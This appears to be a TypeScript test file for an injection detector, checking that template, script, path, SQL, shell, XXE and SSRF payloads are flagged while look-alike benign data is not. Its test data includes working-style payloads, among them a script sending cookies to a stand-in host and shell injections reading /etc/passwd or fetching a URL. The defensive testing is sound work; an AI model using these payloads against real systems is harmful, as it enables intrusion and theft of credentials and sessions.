/** Code of other languages in values, by language; and values of the same shape that are data. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { loadOntology } from '../../engine/knowledge/load-ontology.ts';
import { payloadIn, type Slot } from './payload.ts';

const ontology = loadOntology();
const PLAIN: Slot = { is_text: false, is_one_line: false, is_markup: false };
const ONE_LINE: Slot = { ...PLAIN, is_one_line: true };
const TEXT: Slot = { ...PLAIN, is_text: true };

const read = (value: string, slot = PLAIN): string => {
  const found = payloadIn(value, slot, ontology);
  return found === null ? '' : `${found.language} ${found.strength}`;
};

test('code by its language', () => {
  for (const [value, expected] of [
    ['{{7*7}}', 'template 3'],
    ["{{''.__class__.__mro__[1].__subclasses__()}}", 'template 3'],
    ['\u0024{7*7}', 'template 3'],
    ['<%= 7*7 %>', 'template 3'],
    ['#{7*7}', 'template 3'],
    ['\u0024{jndi:ldap://x.example.test/a}', 'template 3'],
    ['<img src=x onerror=alert(1)>', 'script 3'],
    ['<script>fetch("//x.example.test?c="+document.cookie)</script>', 'script 3'],
    ['%3Csvg%20onload%3Dalert(1)%3E', 'script 3'],
    ['javascript:alert(document.domain)', 'script 3'],
    ['../../../../etc/passwd', 'path 3'],
    ['..%2f..%2fconfig', 'path 3'],
    ['*)(uid=*))(|(uid=*', 'directory 3'],
    ["x' or count(/*)=1 or 'a'='b", 'xpath 3'],
    ["'; return true; var x='", 'documents 3'],
    ['{"$ne": null}', 'documents 2'],
    ['a%0d%0aSet-Cookie: session=1', 'header 3'],
    ['<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>', 'entity 3'],
    ['http://169.254.169.254/latest/meta-data/', 'address 3'],
    ['gopher://10.0.0.5:6379/_x', 'address 3'],
    ['http://2130706433/admin', 'address 3'],
    ['file:///etc/shadow', 'address 3'],
    ['report.pdf; cat /etc/passwd', 'shell 3'],
    ['$(curl -s http://x.example.test)', 'shell 3'],
    ['10.0.0.1 | whoami', 'shell 3'],
    ['%27%20or%201%3D1--', 'sql 3'],
  ] as const)
    assert.equal(read(value), expected, value);
  assert.equal(read('Hello\r\nBcc: all@x.example.test', ONE_LINE), 'header 3');
});

test('data of the same shape', () => {
  for (const value of [
    '{{first_name}}',
    '{{ user.name | upper }}',
    'Dear \u0024{customer}, your order {order_id} is ready',
    '<b>Minutes</b> and <a href="https://x.example.test">agenda</a>',
    '../shared/report.pdf',
    'f(x)(y)',
    'https://api.example.test/v1?x=1&y=2',
    'http://localhost:3000/health',
    'Buy milk; cut the grass',
    'fish & chips | salad',
    'price: $5 (was $7)',
    'a*b=c',
    'C:\\Users\\ana\\notes.txt',
    '50% off! #sale @shop',
  ])
    assert.equal(read(value), '', value);
  assert.equal(read('Hello\r\nTo: everyone who came\r\nThank you.', TEXT), '');
});

test('text that speaks of an attack is weaker than the attack', () => {
  const text =
    'The scanner reports that the search page shows <img src=x onerror=alert(1)> without escaping it. Please look at the encoder of the results page and at the tests that should have found this before the release.';
  assert.equal(payloadIn(text, TEXT, ontology)?.strength, 2);
});

test('padding hides nothing at the end of a long value', () => {
  assert.equal(read(`${'x'.repeat(9_000)}' or '1'='1`), 'sql 3');
  assert.equal(read(`${'word '.repeat(2_000)}{{7*7}}`), 'template 3');
});

test('any text is read', () => {
  fc.assert(fc.property(fc.string({ maxLength: 300 }), (text) => payloadIn(text, ONE_LINE, ontology) !== undefined));
});
